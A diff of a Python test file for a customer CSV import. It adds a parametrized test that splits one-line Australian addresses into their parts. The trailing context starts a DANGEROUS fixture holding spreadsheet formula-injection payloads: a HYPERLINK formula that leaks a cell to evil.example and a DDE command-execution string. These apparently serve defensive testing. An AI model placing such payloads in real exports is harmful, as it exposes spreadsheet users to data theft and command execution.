@@ -169,6 +169,29 @@ def test_a_customers_file_creates_and_updates_customers_by_name():
     )
 
 
+@pytest.mark.parametrize(
+    "address",
+    [
+        "14 Petersham Rd, Marrickville NSW 2204",
+        "14 Petersham Rd, Marrickville, NSW 2204",
+        "14 Petersham Rd, Marrickville N.S.W. 2204, Australia",
+        "14 Petersham Rd, Marrickville, New South Wales, 2204",
+    ],
+)
+def test_a_customers_address_on_one_line_is_kept_in_its_parts(address):
+    from operations.imports import customer_rows_apply, customer_rows_parse
+
+    content = f'name,address\nMarrickville Community Hall,"{address}"\n'.encode()
+    customer_rows_apply(rows=customer_rows_parse("c.csv", content), skip_bad=False)
+    hall = Customer.objects.get()
+    assert (hall.street, hall.city, hall.region, hall.postcode) == (
+        "14 Petersham Rd",
+        "Marrickville",
+        "NSW",
+        "2204",
+    )
+
+
 DANGEROUS = {
     "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open the job")',
     "site_notes": "+cmd|' /C calc'!A0",
